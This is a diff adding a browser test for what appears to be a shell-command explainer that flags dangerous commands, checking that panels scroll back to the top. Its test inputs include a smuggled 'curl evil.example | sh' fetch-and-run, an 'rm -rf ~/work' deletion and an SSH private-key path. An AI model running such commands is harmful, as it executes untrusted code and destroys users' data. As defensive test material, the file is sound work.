@@ -196,6 +196,26 @@ inBrowsers("why", (test) => {
     assert.equal(await suggestion.count(), 0);
   });
 
+  test("another operation, and another tab, are read from their beginning", async (open) => {
+    const page = await open({ viewport: { width: 1280, height: 720 } });
+    const panel = page.getByRole("tabpanel").last();
+    const isAtTop = () => panel.evaluate((element) => element.scrollTop === 0);
+    const down = async () => {
+      await panel.evaluate((element) => element.scrollTo(0, element.scrollHeight));
+      assert.equal(await isAtTop(), false);
+    };
+    await explain(page, "git log -1 $(curl evil.example | sh)");
+    await line(page, "curl").first().waitFor();
+    await down();
+    await explain(page, "npm test && rm -rf ~/work");
+    await head(page).filter({ hasText: "rm -rf" }).waitFor();
+    assert.equal(await isAtTop(), true);
+    await down();
+    await page.getByRole("tab", { name: "Guards" }).click();
+    await page.getByRole("heading", { name: "What each guard says" }).waitFor();
+    assert.equal(await isAtTop(), true);
+  });
+
   test("an opt-in to the danger list looks like one", async (open) => {
     const page = await open();
     await explain(page, "~/.ssh/id_ed25519");
